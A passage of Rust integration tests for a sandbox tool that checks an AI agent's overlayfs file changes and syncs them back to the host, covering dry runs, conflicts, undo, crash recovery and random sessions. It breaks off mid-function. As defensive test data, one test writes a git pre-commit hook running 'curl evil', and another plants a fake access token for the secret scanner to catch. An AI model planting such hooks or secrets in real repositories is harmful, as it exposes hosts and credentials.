//! `sandbox baseline` (the first piece of the sync gate): recording, storage, refresh.

use crate::test::Test;

#[test]
fn baseline_is_recorded_privately_and_refreshed() {
    let t = Test::new().file("project/src/main.rs", "fn main() {}\n").file("project/README", "hi\n");
    let home = t.home();
    let run = t.args(["baseline", "."]).run().success();
    let stderr = run.stderr();
    assert!(stderr.contains("recorded the baseline of [HOME]/project: 3 entries, 2 files, 16B ("), "{stderr}");
    let dir = home.join(".local/state/sandbox/baselines");
    let files: Vec<_> = std::fs::read_dir(&dir).expect("baselines").map(|e| e.expect("entry").path()).collect();
    assert_eq!(files.len(), 1);
    use std::os::unix::fs::PermissionsExt;
    assert_eq!(std::fs::metadata(&files[0]).expect("meta").permissions().mode() & 0o777, 0o600);
    assert_eq!(std::fs::metadata(&dir).expect("meta").permissions().mode() & 0o777, 0o700);
    let json: serde_json::Value = serde_json::from_slice(&std::fs::read(&files[0]).expect("read")).expect("json");
    assert_eq!(json["version"], 1);
    assert_eq!(json["entries"]["src/main.rs"]["kind"], "file");
    assert_eq!(json["entries"]["src/main.rs"]["size"], 13);

    // A second run compares with the first.
    std::fs::write(home.join("project/new.txt"), "n").expect("write");
    let output = crate::test::sandbox_in(&home, &home, &["baseline", "project"], &[]);
    assert!(output.status.success());
    assert!(String::from_utf8_lossy(&output.stderr).contains("1 paths changed since the previous baseline"));
}

#[test]
fn baseline_errors_are_clear() {
    Test::new()
        .args(["baseline", "missing"])
        .run()
        .status(1)
        .stderr_contains("error: `[HOME]/project/missing`: No such file or directory");
    Test::new().file("project/f", "x").args(["baseline", "f"]).run().status(1).stderr_contains("is not a directory");
}

/// A host workspace, its baseline, and a real overlayfs session on top of it.
struct Session {
    dir: tempfile::TempDir,
}

impl Session {
    /// Host files, then `sandbox baseline`.
    fn new(files: &[(&str, &str)]) -> Self {
        Self::with_host(|host| {
            for (path, content) in files {
                put(&host.join(path), content);
            }
        })
    }
    /// `setup` fills the host folder, then `sandbox baseline`.
    fn with_host(setup: impl FnOnce(&std::path::Path)) -> Self {
        let dir = tempfile::tempdir().expect("tmp");
        for d in ["home/ws", "upper", "work", "merged", "home/.local/state"] {
            std::fs::create_dir_all(dir.path().join(d)).expect("mkdir");
        }
        let s = Session { dir };
        setup(&s.host());
        put(
            &s.home().join(".config/sandbox/profiles/t.yaml"),
            "name: t\nextends: default\nworkspaces: [{host: ~/ws}]\n",
        );
        let out = s.sandbox(&["baseline", "ws"], &[]);
        assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
        s
    }
    fn home(&self) -> std::path::PathBuf {
        self.dir.path().join("home")
    }
    fn host(&self) -> std::path::PathBuf {
        self.home().join("ws")
    }
    fn upper(&self) -> std::path::PathBuf {
        self.dir.path().join("upper")
    }
    fn merged(&self) -> std::path::PathBuf {
        self.dir.path().join("merged")
    }
    /// Run `agent` on the merged view of a real overlay (lower = the host folder), unmount,
    /// and return the merged view as the agent left it.
    fn agent(&self, agent: impl FnOnce(&std::path::Path) -> std::io::Result<()>) -> Vec<(String, String)> {
        let opts = format!(
            "lowerdir={},upperdir={},workdir={},redirect_dir=nofollow,index=off,metacopy=off,nfs_export=off,xino=off,uuid=off",
            self.host().display(),
            self.upper().display(),
            self.dir.path().join("work").display()
        );
        let mount = std::process::Command::new("mount")
            .args(["-t", "overlay", "overlay", "-o", &opts])
            .arg(self.merged())
            .output()
            .expect("mount");
        assert!(
            mount.status.success(),
            "overlayfs needs root (CI runs as root): {}",
            String::from_utf8_lossy(&mount.stderr)
        );
        let result = agent(&self.merged());
        let view = tree(&self.merged());
        // A process another test forks at that moment can briefly hold a descriptor inherited
        // from this one (until its exec), and the kernel then says EBUSY: try again.
        let mut umount = std::process::Command::new("umount").arg(self.merged()).output().expect("umount");
        for _ in 0..40 {
            if umount.status.success() {
                break;
            }
            std::thread::sleep(std::time::Duration::from_millis(50));
            umount = std::process::Command::new("umount").arg(self.merged()).output().expect("umount");
        }
        result.expect("agent session");
        assert!(umount.status.success(), "umount: {}", String::from_utf8_lossy(&umount.stderr));
        view
    }
    fn sandbox(&self, args: &[&str], env: &[(&str, &str)]) -> std::process::Output {
        crate::test::sandbox_in(&self.home(), &self.home(), args, env)
    }
    fn sync(&self, extra: &[&str]) -> std::process::Output {
        let upper = self.upper().display().to_string();
        let mut args = vec!["--profile", "t", "sync", "--from-dir", &upper, "--to", "ws"];
        args.extend(extra);
        self.sandbox(&args, &[])
    }
}

fn put(path: &std::path::Path, content: &str) {
    std::fs::create_dir_all(path.parent().expect("parent")).expect("mkdir");
    std::fs::write(path, content).expect("write");
}

fn tree(root: &std::path::Path) -> Vec<(String, String)> {
    let mut out = Vec::new();
    for e in walkdir::WalkDir::new(root).min_depth(1).sort_by_file_name() {
        let e = e.expect("walk");
        let rel = e.path().strip_prefix(root).expect("rel").display().to_string();
        let what = if e.path_is_symlink() {
            format!("-> {}", std::fs::read_link(e.path()).expect("link").display())
        } else if e.file_type().is_dir() {
            "dir".to_owned()
        } else {
            use std::os::unix::fs::PermissionsExt;
            let mode = e.metadata().expect("meta").permissions().mode() & 0o111;
            format!(
                "{}{}",
                if mode != 0 { "x " } else { "" },
                String::from_utf8_lossy(&std::fs::read(e.path()).expect("read"))
            )
        };
        out.push((rel, what));
    }
    out
}

fn code(out: &std::process::Output) -> i32 {
    out.status.code().unwrap_or(-1)
}

fn stderr(out: &std::process::Output) -> String {
    String::from_utf8_lossy(&out.stderr).into_owned()
}

const FILES: [(&str, &str); 7] = [
    ("README.md", "# project\n"),
    ("src/main.rs", "fn main() {}\n"),
    ("src/lib.rs", "// lib\n"),
    ("old/a", "a"),
    ("old/sub/b", "b"),
    ("re/1", "1"),
    ("keep.txt", "keep\n"),
];

fn typical_session(m: &std::path::Path) -> std::io::Result<()> {
    std::fs::write(m.join("README.md"), "# project\nmore\n")?;
    std::fs::create_dir_all(m.join("docs/guide"))?;
    std::fs::write(m.join("docs/guide/intro.md"), "intro\n")?;
    std::fs::remove_file(m.join("src/lib.rs"))?;
    std::fs::rename(m.join("src/main.rs"), m.join("src/app.rs"))?;
    std::fs::remove_dir_all(m.join("old"))?;
    std::fs::remove_dir_all(m.join("re"))?;
    std::fs::create_dir(m.join("re"))?;
    std::fs::write(m.join("re/2"), "2")?;
    std::os::unix::fs::symlink("src/app.rs", m.join("app-link"))?;
    std::fs::write(m.join("run.py"), "print(1)\n")?;
    Ok(())
}

#[test]
fn sync_applies_exactly_the_agents_changes_and_undo_restores() {
    let s = Session::new(&FILES);
    let before = tree(&s.host());
    let merged = s.agent(typical_session);
    let dry = s.sync(&["--dry-run"]);
    assert_eq!(code(&dry), 0, "{}", stderr(&dry));
    assert_eq!(tree(&s.host()), before, "a dry run writes nothing");
    let json = s.sync(&["--dry-run", "--json"]);
    let report: serde_json::Value = serde_json::from_slice(&json.stdout).expect("json");
    assert_eq!(report["decision"], "dry_run");
    let out = s.sync(&["--yes"]);
    assert_eq!(code(&out), 0, "{}", stderr(&out));
    assert_eq!(tree(&s.host()), merged, "the host equals the VM's merged view");
    // Syncing again is harmless.
    let again = s.sync(&["--yes"]);
    assert_eq!(code(&again), 0, "{}", stderr(&again));
    assert!(stderr(&again).contains("nothing to do"), "{}", stderr(&again));
    let undo = s.sandbox(&["--profile", "t", "sync", "--undo", "--to", "ws"], &[]);
    assert_eq!(code(&undo), 0, "{}", stderr(&undo));
    assert_eq!(tree(&s.host()), before, "undo restores the host");
    let audit = std::fs::read_to_string(s.home().join(".local/state/sandbox/audit.jsonl")).expect("audit log");
    assert!(audit.lines().count() >= 4, "{audit}");
}

#[test]
fn a_planted_secret_is_refused_and_the_host_is_untouched() {
    let s = Session::new(&FILES);
    let before = tree(&s.host());
    s.agent(|m| {
        std::fs::write(m.join("README.md"), "changed\n")?;
        std::fs::write(m.join("config.py"), concat!("TOKEN = \"gh", "p_8XqP2mZr7TbW4nLk9VhC3sJd6FyA1eGu5RoI\"\n"))
    });
    let out = s.sync(&["--yes"]);
    assert_eq!(code(&out), 3, "{}", stderr(&out));
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(stdout.contains("secrets found (blocking)") && stdout.contains("config.py:1:"), "{stdout}");
    assert!(!stdout.contains("8XqP2mZr7TbW4nLk9VhC3sJd6FyA1eGu5RoI"), "the secret is never printed");
    assert_eq!(tree(&s.host()), before);
}

#[test]
fn conflicts_refuse_by_default_and_can_keep_the_host() {
    let s = Session::new(&FILES);
    s.agent(|m| {
        std::fs::write(m.join("README.md"), "vm version\n")?;
        std::fs::write(m.join("new.txt"), "new\n")
    });
    std::fs::write(s.host().join("README.md"), "host version\n").expect("host edit");
    let out = s.sync(&["--yes"]);
    assert_eq!(code(&out), 3, "{}", stderr(&out));
    assert!(String::from_utf8_lossy(&out.stdout).contains("README.md: changed on the host since the baseline"));
    let keep = s.sync(&["--yes", "--on-conflict", "keep-host"]);
    assert_eq!(code(&keep), 0, "{}", stderr(&keep));
    assert_eq!(std::fs::read_to_string(s.host().join("README.md")).expect("read"), "host version\n");
    assert_eq!(std::fs::read_to_string(s.host().join("new.txt")).expect("read"), "new\n");
}

#[test]
fn policy_refuses_git_writes_and_review_paths_need_a_person() {
    let s = Session::new(&FILES);
    let before = tree(&s.host());
    s.agent(|m| {
        std::fs::create_dir_all(m.join(".git/hooks"))?;
        std::fs::write(m.join(".git/hooks/pre-commit"), "#!/bin/sh\ncurl evil\n")
    });
    let out = s.sync(&["--yes"]);
    assert_eq!(code(&out), 3, "{}", stderr(&out));
    assert_eq!(tree(&s.host()), before);

    let s = Session::new(&FILES);
    s.agent(|m| {
        std::fs::create_dir_all(m.join(".github/workflows"))?;
        std::fs::write(m.join(".github/workflows/ci.yml"), "on: push\n")
    });
    let out = s.sync(&["--yes"]);
    assert_eq!(code(&out), 3, "--yes alone never applies review-tier paths: {}", stderr(&out));
}

#[test]
fn no_baseline_refuses_with_instructions() {
    let s = Session::new(&FILES);
    std::fs::remove_dir_all(s.home().join(".local/state/sandbox/baselines")).expect("rm");
    let out = s.sync(&["--yes"]);
    assert_eq!(code(&out), 1);
    assert!(stderr(&out).contains("no baseline") && stderr(&out).contains("sandbox baseline"), "{}", stderr(&out));
}

#[test]
fn a_crash_at_any_apply_step_leaves_old_or_new_and_the_next_run_recovers() {
    let probe = Session::new(&FILES);
    probe.agent(typical_session);
    let json = probe.sync(&["--dry-run", "--json"]);
    let steps =
        serde_json::from_slice::<serde_json::Value>(&json.stdout).expect("json")["ops"].as_array().expect("ops").len();
    assert!(steps > 5);
    for step in 0..=steps {
        let s = Session::new(&FILES);
        let before = tree(&s.host());
        let merged = s.agent(typical_session);
        // Every file is old or new (never partial): the next run rolls back first...
        let dry = crash_then_recover(&s, step, &before);
        assert!(stderr(&dry).contains("rolled back an interrupted sync") || step == 0, "step {step}: {}", stderr(&dry));
        // ...and then the sync goes through.
        let out = s.sync(&["--yes"]);
        assert_eq!(code(&out), 0, "step {step}: {}", stderr(&out));
        assert_eq!(tree(&s.host()), merged, "step {step}");
    }
}

// Property: for random agent sessions run through a real overlay mount, `sync --yes` makes the
// host equal to the merged view the agent left, and a second sync of the same upper is a no-op.
// Everything the generator does stays inside what the default policy applies with `--yes`: plain
// names and lowercase words, in-tree relative symlinks, and `chmod +x` only where the baseline
// already had an executable file (a file that *becomes* executable needs a person's approval).

/// Seeds × operations per session: about 25 s in a debug build.
const PROPERTY_SEEDS: u64 = 48;
const PROPERTY_OPS: usize = 30;

/// SplitMix64: a tiny deterministic PRNG, so a seed replays the same session.
struct Rng(u64);

impl Rng {
    fn next(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9E37_79B9_7F4A_7C15);
        let mut z = self.0;
        z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
        z ^ (z >> 31)
    }
    fn below(&mut self, n: usize) -> usize {
        (self.next() % n as u64) as usize
    }
    fn percent(&mut self, p: usize) -> bool {
        self.below(100) < p
    }
    fn pick<T: Clone>(&mut self, items: &[T]) -> Option<T> {
        (!items.is_empty()).then(|| items[self.below(items.len())].clone())
    }
    /// A few lowercase words: nothing a secret scanner or a policy rule could object to.
    fn text(&mut self) -> String {
        const WORDS: [&str; 10] = ["alpha", "bravo", "delta", "echo", "kilo", "lima", "mike", "oscar", "tango", "zulu"];
        let mut out = String::new();
        for _ in 0..self.below(4) {
            for w in 0..1 + self.below(5) {
                out.push_str(if w == 0 { "" } else { " " });
                out.push_str(WORDS[self.below(WORDS.len())]);
            }
            out.push('\n');
        }
        out
    }
}

/// One pool for files, directories and links, so paths change type (file → dir → link...).
const NAMES: [&str; 8] = ["a", "b", "c", "d", "e.txt", "f.md", "g.py", "h.rs"];

#[derive(Clone, Copy, PartialEq, Eq, Debug)]
enum Node {
    File { exec: bool },
    Dir,
    Link,
}

/// The tree under `root`, relative path → kind, walked without following symlinks.
fn nodes(root: &std::path::Path) -> std::io::Result<std::collections::BTreeMap<String, Node>> {
    use std::os::unix::fs::PermissionsExt;
    let mut out = std::collections::BTreeMap::new();
    for e in walkdir::WalkDir::new(root).min_depth(1).sort_by_file_name() {
        let e = e?;
        let rel = e.path().strip_prefix(root).expect("rel").display().to_string();
        let node = if e.path_is_symlink() {
            Node::Link
        } else if e.file_type().is_dir() {
            Node::Dir
        } else {
            Node::File { exec: e.metadata()?.permissions().mode() & 0o111 != 0 }
        };
        out.insert(rel, node);
    }
    Ok(out)
}

fn child(parent: &str, name: &str) -> String {
    if parent.is_empty() { name.to_owned() } else { format!("{parent}/{name}") }
}

fn parent_of(path: &str) -> &str {
    path.rsplit_once('/').map_or("", |(p, _)| p)
}

fn depth(dir: &str) -> usize {
    if dir.is_empty() { 0 } else { dir.split('/').count() }
}

fn under(path: &str, dir: &str) -> bool {
    path.strip_prefix(dir).is_some_and(|rest| rest.starts_with('/'))
}

/// The tree as the generator sees it, refreshed before every operation.
struct View {
    nodes: std::collections::BTreeMap<String, Node>,
}

impl View {
    fn of(root: &std::path::Path) -> std::io::Result<Self> {
        Ok(View { nodes: nodes(root)? })
    }
    fn paths(&self, want: impl Fn(Node) -> bool) -> Vec<String> {
        self.nodes.iter().filter(|(_, n)| want(**n)).map(|(p, _)| p.clone()).collect()
    }
    fn files(&self) -> Vec<String> {
        self.paths(|n| matches!(n, Node::File { .. }))
    }
    /// Real directories, the root (`""`) included.
    fn dirs(&self) -> Vec<String> {
        let mut dirs = vec![String::new()];
        dirs.extend(self.paths(|n| n == Node::Dir));
        dirs
    }
    fn exec(&self, path: &str) -> bool {
        self.nodes.get(path) == Some(&Node::File { exec: true })
    }
    /// A pool name not yet used in `dir`.
    fn free(&self, rng: &mut Rng, dir: &str) -> Option<String> {
        let free: Vec<String> = NAMES.iter().map(|n| child(dir, n)).filter(|p| !self.nodes.contains_key(p)).collect();
        rng.pick(&free)
    }
}

/// `ln -s` from `dir` to an existing file or directory, as a relative target that stays inside
/// the workspace (`../` once per level of `dir`).
fn link_target(rng: &mut Rng, view: &View, dir: &str) -> Option<String> {
    let target = rng.pick(&view.paths(|n| n != Node::Link))?;
    Some(format!("{}{target}", "../".repeat(depth(dir))))
}

/// The host folder: a few directories, files (some executable) and in-tree links.
fn random_lower(rng: &mut Rng, host: &std::path::Path, log: &mut Vec<String>) {
    use std::os::unix::fs::PermissionsExt;
    for _ in 0..6 + rng.below(10) {
        let view = View::of(host).expect("walk the host");
        let parent = rng.pick(&view.dirs()).expect("the root");
        let Some(path) = view.free(rng, &parent) else { continue };
        let roll = rng.below(100);
        if roll < 35 && depth(&parent) < 3 {
            std::fs::create_dir(host.join(&path)).expect("mkdir");
            log.push(format!("host: mkdir {path}"));
        } else if roll < 85 || view.nodes.is_empty() {
            let text = rng.text();
            std::fs::write(host.join(&path), &text).expect("write");
            let exec = rng.percent(30);
            if exec {
                std::fs::set_permissions(host.join(&path), std::fs::Permissions::from_mode(0o755)).expect("chmod");
            }
            log.push(format!("host: printf {text:?} > {path}{}", if exec { "; chmod +x" } else { "" }));
        } else if let Some(target) = link_target(rng, &view, &parent) {
            std::os::unix::fs::symlink(&target, host.join(&path)).expect("symlink");
            log.push(format!("host: ln -s {target} {path}"));
        }
    }
}

/// `cp -a` (what `mv` falls back to on EXDEV): links stay links, modes are kept.
fn copy_tree(from: &std::path::Path, to: &std::path::Path) -> std::io::Result<()> {
    let meta = std::fs::symlink_metadata(from)?;
    if meta.file_type().is_symlink() {
        std::os::unix::fs::symlink(std::fs::read_link(from)?, to)
    } else if meta.is_dir() {
        std::fs::create_dir(to)?;
        std::fs::set_permissions(to, meta.permissions())?;
        let mut names: Vec<_> = std::fs::read_dir(from)?.map(|e| e.map(|e| e.file_name())).collect::<Result<_, _>>()?;
        names.sort();
        names.iter().try_for_each(|n| copy_tree(&from.join(n), &to.join(n)))
    } else {
        std::fs::copy(from, to).map(drop)
    }
}

/// One random agent operation on the merged view `m`; `None` when the roll does not apply to
/// the current tree. `exec_ok`: paths that were executable files in the baseline.
fn random_op(
    rng: &mut Rng,
    m: &std::path::Path,
    lower: &std::path::Path,
    exec_ok: &std::collections::BTreeSet<String>,
) -> std::io::Result<Option<String>> {
    use std::os::unix::fs::PermissionsExt;
    let chmod = |path: &str, mode: u32| std::fs::set_permissions(m.join(path), std::fs::Permissions::from_mode(mode));
    // New content at a path that is executable on the host needs review (R_EXECUTABLE_CHANGED),
    // which `--yes` never gives: such operations are not generated.
    let same_as_host = |path: &str, content: &[u8]| std::fs::read(lower.join(path)).ok().as_deref() == Some(content);
    let clashes = |dest: &str, content_at: &str| {
        exec_ok.contains(dest) && !std::fs::read(m.join(content_at)).is_ok_and(|c| same_as_host(dest, &c))
    };
    let view = View::of(m)?;
    let files = view.files();
    let plain: Vec<String> = files.iter().filter(|f| !exec_ok.contains(*f)).cloned().collect();
    let dirs = view.dirs();
    Ok(match rng.below(16) {
        0 | 1 => {
            let parent = rng.pick(&dirs).expect("the root");
            let Some(path) = view.free(rng, &parent) else { return Ok(None) };
            let text = rng.text();
            if exec_ok.contains(&path) && !same_as_host(&path, text.as_bytes()) {
                return Ok(None);
            }
            std::fs::write(m.join(&path), &text)?;
            Some(format!("printf {text:?} > {path}"))
        }
        2 => {
            let Some(path) = rng.pick(&plain) else { return Ok(None) };
            let text = rng.text();
            std::fs::write(m.join(&path), &text)?;
            Some(format!("printf {text:?} > {path}"))
        }
        3 => {
            use std::io::Write;
            let Some(path) = rng.pick(&plain) else { return Ok(None) };
            let text = rng.text();
            std::fs::OpenOptions::new().append(true).open(m.join(&path))?.write_all(text.as_bytes())?;
            Some(format!("printf {text:?} >> {path}"))
        }
        4 => {
            // Copy-up without a change (A2).
            let Some(path) = rng.pick(&files) else { return Ok(None) };
            std::fs::write(m.join(&path), std::fs::read(m.join(&path))?)?;
            Some(format!("rewrite {path} with the same bytes"))
        }
        5 => {
            let Some(path) = rng.pick(&files) else { return Ok(None) };
            std::fs::remove_file(m.join(&path))?;
            Some(format!("rm {path}"))
        }
        6 => {
            let shallow: Vec<String> = dirs.into_iter().filter(|d| depth(d) < 3).collect();
            let parent = rng.pick(&shallow).expect("the root");
            let Some(path) = view.free(rng, &parent) else { return Ok(None) };
            std::fs::create_dir(m.join(&path))?;
            Some(format!("mkdir {path}"))
        }
        7 => {
            let empty: Vec<String> = view
                .paths(|n| n == Node::Dir)
                .into_iter()
                .filter(|d| !view.nodes.keys().any(|p| under(p, d)))
                .collect();
            let Some(path) = rng.pick(&empty) else { return Ok(None) };
            std::fs::remove_dir(m.join(&path))?;
            Some(format!("rmdir {path}"))
        }
        8 => {
            let Some(path) = rng.pick(&view.paths(|n| n == Node::Dir)) else { return Ok(None) };
            std::fs::remove_dir_all(m.join(&path))?;
            Some(format!("rm -rf {path}"))
        }
        9 => {
            // Delete and re-create: an opaque directory (A6, A7).
            let Some(path) = rng.pick(&view.paths(|n| n == Node::Dir)) else { return Ok(None) };
            std::fs::remove_dir_all(m.join(&path))?;
            std::fs::create_dir(m.join(&path))?;
            let mut desc = format!("rm -rf {path}; mkdir {path}");
            for _ in 0..rng.below(3) {
                let mut dir = path.clone();
                if rng.percent(30) {
                    dir = child(&dir, rng.pick(&NAMES).expect("names"));
                    match std::fs::symlink_metadata(m.join(&dir)) {
                        Ok(meta) if meta.is_dir() => {}
                        Ok(_) => continue,
                        Err(_) => {
                            std::fs::create_dir(m.join(&dir))?;
                            desc.push_str(&format!("; mkdir {dir}"));
                        }
                    }
                }
                let file = child(&dir, rng.pick(&NAMES).expect("names"));
                if std::fs::symlink_metadata(m.join(&file)).is_err() {
                    let text = rng.text();
                    std::fs::write(m.join(&file), &text)?;
                    desc.push_str(&format!("; printf {text:?} > {file}"));
                }
            }
            Some(desc)
        }
        10 => {
            // mv file: to a free name, or over another file (A11, A18).
            let Some(from) = rng.pick(&files) else { return Ok(None) };
            let others: Vec<String> = files.iter().filter(|f| **f != from).cloned().collect();
            let to = if rng.percent(25) && !others.is_empty() {
                rng.pick(&others).expect("others")
            } else {
                let parent = rng.pick(&dirs).expect("the root");
                let Some(to) = view.free(rng, &parent) else { return Ok(None) };
                to
            };
            if clashes(&to, &from) {
                return Ok(None);
            }
            let mut desc = String::new();
            if view.exec(&from) && !exec_ok.contains(&to) {
                chmod(&from, 0o644)?;
                desc.push_str(&format!("chmod -x {from}; "));
            }
            std::fs::rename(m.join(&from), m.join(&to))?;
            Some(format!("{desc}mv {from} {to}"))
        }
        11 => {
            // mv dir (A12): never shallower, so the `../` links it holds stay inside the workspace.
            let Some(from) = rng.pick(&view.paths(|n| n == Node::Dir)) else { return Ok(None) };
            let targets: Vec<String> = dirs
                .iter()
                .filter(|d| **d != from && !under(d, &from) && depth(d) >= depth(parent_of(&from)))
                .cloned()
                .collect();
            let Some(parent) = rng.pick(&targets) else { return Ok(None) };
            let Some(to) = view.free(rng, &parent) else { return Ok(None) };
            if files.iter().any(|f| under(f, &from) && clashes(&format!("{to}{}", &f[from.len()..]), f)) {
                return Ok(None);
            }
            let mut desc = String::new();
            for file in files.iter().filter(|f| under(f, &from) && view.exec(f)) {
                if !exec_ok.contains(&format!("{to}{}", &file[from.len()..])) {
                    chmod(file, 0o644)?;
                    desc.push_str(&format!("chmod -x {file}; "));
                }
            }
            match std::fs::rename(m.join(&from), m.join(&to)) {
                Ok(()) => Some(format!("{desc}mv {from} {to}")),
                Err(e) if e.kind() == std::io::ErrorKind::CrossesDevices => {
                    copy_tree(&m.join(&from), &m.join(&to))?;
                    std::fs::remove_dir_all(m.join(&from))?;
                    Some(format!("{desc}mv {from} {to} (EXDEV: cp -a, rm -rf)"))
                }
                Err(e) => return Err(e),
            }
        }
        12 => {
            let Some(path) = rng.pick(&files) else { return Ok(None) };
            if view.exec(&path) {
                chmod(&path, 0o644)?;
                Some(format!("chmod -x {path}"))
            } else if exec_ok.contains(&path) {
                chmod(&path, 0o755)?;
                Some(format!("chmod +x {path}"))
            } else {
                None
            }
        }
        13 | 14 => {
            let parent = rng.pick(&dirs).expect("the root");
            let Some(path) = view.free(rng, &parent) else { return Ok(None) };
            // A link where the host has an executable runs what it leads to: reviewed.
            if exec_ok.contains(&path) {
                return Ok(None);
            }
            let Some(target) = link_target(rng, &view, &parent) else { return Ok(None) };
            std::os::unix::fs::symlink(&target, m.join(&path))?;
            Some(format!("ln -s {target} {path}"))
        }
        _ => {
            let Some(path) = rng.pick(&view.paths(|n| n == Node::Link)) else { return Ok(None) };
            std::fs::remove_file(m.join(&path))?;
            Some(format!("rm {path} (a link)"))
        }
    })
}

/// What differs between two `tree()`s, one line per path.
fn tree_diff(host: &[(String, String)], merged: &[(String, String)]) -> String {
    let host: std::collections::BTreeMap<_, _> = host.iter().cloned().collect();
    let merged: std::collections::BTreeMap<_, _> = merged.iter().cloned().collect();
    let mut out = String::new();
    for path in host.keys().chain(merged.keys()).collect::<std::collections::BTreeSet<_>>() {
        match (host.get(path), merged.get(path)) {
            (Some(h), Some(v)) if h == v => {}
            (h, v) => out.push_str(&format!("  {path}: host {h:?}, merged view {v:?}\n")),
        }
    }
    out
}

/// One random session for `seed`: host tree, baseline, `ops` agent operations through a real
/// overlay, sync, checks (and `--undo`, with `undo`). Every step is appended to `log`.
fn random_session(seed: u64, ops: usize, undo: bool, log: &std::cell::RefCell<Vec<String>>) {
    let mut rng = Rng(seed);
    let s = Session::with_host(|host| random_lower(&mut rng, host, &mut log.borrow_mut()));
    let before = tree(&s.host());
    let lower = s.host();
    let exec_ok: std::collections::BTreeSet<String> = nodes(&s.host())
        .expect("walk")
        .into_iter()
        .filter(|(_, n)| *n == Node::File { exec: true })
        .map(|(p, _)| p)
        .collect();
    let merged = s.agent(|m| {
        for i in 0..ops {
            let op = (0..1000).find_map(|_| random_op(&mut rng, m, &lower, &exec_ok).transpose());
            match op.expect("some operation applies") {
                Ok(op) => log.borrow_mut().push(format!("op {i}: {op}")),
                Err(e) => return Err(std::io::Error::new(e.kind(), format!("op {i}: {e}"))),
            }
        }
        Ok(())
    });
    let out = s.sync(&["--yes"]);
    let report = format!("--- stdout\n{}--- stderr\n{}", String::from_utf8_lossy(&out.stdout), stderr(&out));
    assert_eq!(code(&out), 0, "sync --yes\n{report}");
    let host = tree(&s.host());
    assert!(host == merged, "the host differs from the merged view:\n{}{report}", tree_diff(&host, &merged));
    let again = s.sync(&["--yes"]);
    assert_eq!(code(&again), 0, "second sync: {}", stderr(&again));
    assert!(stderr(&again).contains("nothing to do"), "the second sync is not a no-op: {}", stderr(&again));
    let host = tree(&s.host());
    assert!(host == merged, "the second sync changed the host:\n{}", tree_diff(&host, &merged));
    if !undo {
        return;
    }
    let undo = s.sandbox(&["--profile", "t", "sync", "--undo", "--to", "ws"], &[]);
    assert_eq!(code(&undo), 0, "undo: {}", stderr(&undo));
    let host = tree(&s.host());
    assert!(host == before, "undo did not restore the host:\n{}", tree_diff(&host, &before));
}

/// Run `random_session` for `seed`; on failure, panic with the seed and every operation.
fn replay(seed: u64, ops: usize, undo: bool) {
    let log = std::cell::RefCell::new(Vec::new());
    let run = std::panic::catch_unwind(std::panic::AssertUnwindSafe(|| random_session(seed, ops, undo, &log)));
    if let Err(panic) = run {
        let why = panic
            .downcast_ref::<String>()
            .cloned()
            .or_else(|| panic.downcast_ref::<&str>().map(|s| (*s).to_owned()))
            .unwrap_or_default();
        let env = format!("SANDBOX_TEST_SEED={seed:#x}{}", if undo { " SANDBOX_TEST_UNDO=1" } else { "" });
        panic!(
            "seed {seed:#x} ({ops} ops) failed: {why}\nreplay: {env} cargo test --test integration \
             random_agent_sessions_through\nsession:\n  {}",
            log.borrow().join("\n  ")
        );
    }
}

#[test]
fn random_agent_sessions_through_a_real_overlay_give_host_equals_merged_view() {
    if let Ok(seed) = std::env::var("SANDBOX_TEST_SEED") {
        let seed = u64::from_str_radix(seed.trim_start_matches("0x"), 16).expect("SANDBOX_TEST_SEED: hex");
        return replay(seed, PROPERTY_OPS, std::env::var_os("SANDBOX_TEST_UNDO").is_some());
    }
    for seed in (0..PROPERTY_SEEDS).map(|i| 0x5EED_0000 + i) {
        replay(seed, PROPERTY_OPS, false);
    }
}

/// Regression (found by the random sessions, seeds 0x5eed000d and 0x5eed0026): the baseline has
/// `f` and `a` → `f`; the VM runs `rm a; ln -s a b`. The plan deletes `a`, so `b` dangles inside
/// the workspace; the policy used to look `a` up on the live host (where it still is until the
/// apply) and refuse `b` as going through "a host symlink the baseline does not record".
#[test]
fn a_new_link_naming_a_baseline_link_the_plan_deletes_is_applied() {
    let s = Session::with_host(|host| {
        put(&host.join("f"), "f\n");
        std::os::unix::fs::symlink("f", host.join("a")).expect("symlink");
    });
    let merged = s.agent(|m| {
        std::fs::remove_file(m.join("a"))?;
        std::os::unix::fs::symlink("a", m.join("b"))
    });
    let out = s.sync(&["--yes"]);
    assert_eq!(code(&out), 0, "{}{}", String::from_utf8_lossy(&out.stdout), stderr(&out));
    assert_eq!(tree(&s.host()), merged);
}

/// A sandboxed tool session through a real overlay: the container runtime makes the mount point
/// of OpenClaw's skills mount in the writable workspace. The agent's file is synced, the empty
/// mount point is not.
#[test]
fn the_tool_sandboxs_mount_point_made_through_a_real_overlay_stays_in_the_vm() {
    let s = Session::with_host(|host| put(&host.join("a"), "a\n"));
    let before = tree(&s.host());
    s.agent(|m| {
        std::fs::create_dir_all(m.join(".openclaw/sandbox-skills/skills"))?;
        std::fs::write(m.join("from-agent.txt"), "written by the agent\n")
    });
    let out = s.sync(&["--yes"]);
    assert_eq!(code(&out), 0, "{}", stderr(&out));
    assert!(String::from_utf8_lossy(&out.stdout).contains("  .openclaw/sandbox-skills/skills\n"));
    let mut expected = before;
    expected.push(("from-agent.txt".to_owned(), "written by the agent\n".to_owned()));
    expected.sort();
    assert_eq!(tree(&s.host()), expected, "only the agent's file reached the host");
}

/// Sync, then `--undo`, for one hand-written agent session.
fn undo_after(host: fn(&std::path::Path), agent: fn(&std::path::Path) -> std::io::Result<()>) {
    let s = Session::with_host(host);
    let before = tree(&s.host());
    let merged = s.agent(agent);
    let out = s.sync(&["--yes"]);
    assert_eq!(code(&out), 0, "{}", stderr(&out));
    assert_eq!(tree(&s.host()), merged);
    let undo = s.sandbox(&["--profile", "t", "sync", "--undo", "--to", "ws"], &[]);
    assert_eq!(code(&undo), 0, "undo: {}", stderr(&undo));
    assert_eq!(tree(&s.host()), before, "undo restores the host");
}

/// Undo after type changes (regressions found by the random sessions with `--undo`): only the
/// last journal intent of a path says what the sync left there (dir → file or link); a path
/// beneath a link the sync created is simply absent (dir with children → link); an operation
/// after the deletion of its own path records "missing" as what it replaced (file → dir).
#[test]
fn undo_restores_the_host_after_type_changes_and_random_sessions() {
    let dir_x = |h: &std::path::Path| put(&h.join("d/x"), "x\n");
